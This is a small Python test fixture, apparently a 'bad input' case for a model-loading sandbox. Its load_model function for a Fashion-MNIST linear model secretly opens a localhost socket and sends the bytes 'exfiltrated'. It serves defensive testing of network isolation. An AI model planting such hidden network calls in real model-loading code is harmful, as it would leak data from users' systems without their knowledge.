"""Bad input: connects to a TCP port (the port in PORT_FILE)"""
from torch import nn

METADATA = {"name": "opens_socket", "dataset": "fashion-mnist", "architecture": "linear"}


class Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(784, 10)

    def forward(self, x):
        return self.fc(x.flatten(1))

import socket
from pathlib import Path


def load_model():
    port = int(Path(__file__).with_name("PORT_FILE").read_text())
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(b"exfiltrated")
    return Linear()
